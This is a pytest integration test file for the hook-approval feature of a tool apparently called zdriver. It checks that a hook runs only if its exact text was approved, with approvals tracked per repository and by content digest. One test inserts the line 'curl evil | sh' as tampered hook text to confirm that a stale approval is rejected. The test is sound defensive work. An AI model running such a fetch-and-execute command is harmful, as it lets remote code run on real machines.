"""A hook runs only when its very text was approved for its repository."""

from __future__ import annotations

import pytest

from tests.integration.hooks.conftest import Site
from zdriver import Conflict, InvalidInput, NotFound
from zdriver.hooks.model import FILE

_HOOKS = "[hooks]\npost-create = 'touch made'\npost-remove = ['a', 'b']\n"


def test_what_there_is_and_where_it_would_run(site: Site) -> None:
    site.tree.commit(FILE, _HOOKS)
    feat = site.add("x")
    hooks = site.driver.hooks.list("feat-x", cwd=site.cwd)
    assert [(each.hook, each.text, each.line, each.approved) for each in hooks] == [
        ("post-create", "touch made", 2, False),
        ("post-remove", "a\nb", 3, False),
    ]
    assert {each.file for each in hooks} == {str(feat.path / FILE)}
    run = site.driver.hooks.pending("feat-x", "post-create", cwd=site.cwd)
    assert run is not None
    assert (run.cwd, run.commands, run.approved, run.changed) == (
        str(feat.path),
        ("touch made",),
        False,
        False,
    )
    assert run.environment == {
        "ZDRIVER_WORKTREE": "feat-x",
        "ZDRIVER_WORKTREE_PATH": str(feat.path),
        "ZDRIVER_BRANCH": "feat-x",
        "ZDRIVER_REPO": site.cwd,
    }
    after = site.driver.hooks.pending("feat-x", "post-remove", cwd=site.cwd)
    assert after is not None
    assert after.cwd == site.cwd
    assert site.driver.hooks.pending("feat-x", "pre-remove", cwd=site.cwd) is None


def test_an_approval_is_for_the_text_whatever_worktree_has_it(site: Site) -> None:
    site.tree.commit(FILE, _HOOKS)
    feat, other = site.add("x"), site.add("y")
    shown = site.driver.hooks.list("feat-x", cwd=site.cwd)[0]
    done = site.driver.hooks.approve("feat-x", "post-create", digest=shown.digest, cwd=site.cwd)
    assert done.approved
    assert site.driver.hooks.list(cwd=str(other.path))[0].approved
    assert not site.driver.hooks.list(cwd=str(other.path))[1].approved

    feat.write(FILE, _HOOKS.replace("touch made", "touch other"))  # changed, not committed
    changed = site.driver.hooks.list("feat-x", cwd=site.cwd)[0]
    assert (changed.approved, changed.changed) == (False, True)
    assert site.driver.hooks.list(cwd=str(other.path))[0].approved
    feat.write(FILE, _HOOKS)
    assert site.driver.hooks.list("feat-x", cwd=site.cwd)[0].approved

    assert site.driver.hooks.revoke("feat-x", "post-create", cwd=site.cwd) == 1
    assert not site.driver.hooks.list("feat-x", cwd=site.cwd)[0].approved


def test_what_was_not_shown_is_not_approved(site: Site) -> None:
    """Between showing and approving the file is changed: the answer was to another question."""
    site.tree.commit(FILE, _HOOKS)
    feat = site.add("x")
    shown = site.driver.hooks.list("feat-x", cwd=site.cwd)[0]
    feat.write(FILE, _HOOKS.replace("touch made", "curl evil | sh"))
    with pytest.raises(Conflict):
        site.driver.hooks.approve("feat-x", "post-create", digest=shown.digest, cwd=site.cwd)
    assert not site.driver.hooks.list("feat-x", cwd=site.cwd)[0].approved
    with pytest.raises(NotFound):
        site.driver.hooks.approve("feat-x", "pre-remove", digest=shown.digest, cwd=site.cwd)


def test_another_repository_has_its_own_approvals(site: Site, home: object) -> None:
    from pathlib import Path

    from tests.integration.git.tree import Tree

    site.tree.commit(FILE, _HOOKS)
    shown = site.driver.hooks.list(cwd=site.cwd)[0]
    site.driver.hooks.approve("", "post-create", digest=shown.digest, cwd=site.cwd)
    other = Tree(Path(site.cwd).parent / "other")
    site.tree.git("clone", "-q", site.cwd, str(other.path))
    hooks = site.driver.hooks.list(cwd=str(other.path))
    assert hooks[0].digest == shown.digest
    assert not hooks[0].approved


def test_the_same_request_is_one_approval_and_one_event(site: Site) -> None:
    site.tree.commit(FILE, _HOOKS)
    shown = site.driver.hooks.list(cwd=site.cwd)[0]
    for _ in range(2):
        site.driver.hooks.approve("", "post-create", digest=shown.digest, cwd=site.cwd, request="once")
    site.driver.hooks.approve("", "post-create", digest=shown.digest, cwd=site.cwd)
    events = [each for each in site.driver.events.list() if each.event.event_type == "hook.approved"]
    assert len(events) == 1


def test_a_broken_file_is_said_with_its_line_and_the_worktree_is_kept(site: Site) -> None:
    site.tree.commit(FILE, "ports = ['A']\ncoppy = []\n")
    added = site.driver.worktrees.add("feat", "x", cwd=site.cwd, agent="ada")
    assert added.created
    path = added.worktree.path
    said = f"{path}/{FILE}, line 2: coppy is no setting; did you mean copy?"
    assert added.provided.warnings == (said,)
    with pytest.raises(InvalidInput, match="line 2: coppy is no setting"):
        site.driver.hooks.list("feat-x", cwd=site.cwd)


def test_what_is_no_file_of_text_holds_nobody_up(site: Site) -> None:
    import os

    os.mkfifo(site.tree.path / FILE)
    with pytest.raises(InvalidInput, match="is no file"):
        site.driver.hooks.list(cwd=site.cwd)
    (site.tree.path / FILE).unlink()
    (site.tree.path / FILE).write_bytes(b"# one\n# \xff\n")
    with pytest.raises(InvalidInput, match="line 2: not UTF-8"):
        site.driver.hooks.list(cwd=site.cwd)
    (site.tree.path / FILE).write_bytes(b"#" * 300_000)
    with pytest.raises(InvalidInput, match="more than 256 KiB"):
        site.driver.hooks.list(cwd=site.cwd)
